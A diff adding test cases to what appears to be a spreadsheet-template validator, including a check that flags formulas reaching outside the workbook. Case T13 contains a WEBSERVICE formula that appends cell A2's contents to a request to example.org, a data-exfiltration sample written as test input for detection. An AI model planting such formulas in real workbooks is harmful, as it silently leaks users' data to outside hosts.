@@ -138,6 +138,18 @@ describe('an invalid template', () => {
       'S!B2: Formulas are not supported in the answer row.',
     ],
     [
+      'T13',
+      'a formula could send something to an address',
+      { ...answers, D9: { formula: 'WEBSERVICE("https://example.org/?"&A2)', result: 0 } },
+      'S!D9: This formula could fetch or send something outside the workbook. Replace it by its value, or use functions that only calculate.',
+    ],
+    [
+      'T14',
+      'a cell stands at the bottom of the sheet',
+      { ...answers, C1048576: 'last', C1048575: 'last but one' },
+      'S!C1048575: Content below row 100000 leaves no room for the respondents. Move it up, or delete these rows.',
+    ],
+    [
       'T11',
       'a fact about the export is in the answer row',
       { ...answers, B2: '{{$exportedAt}}' },
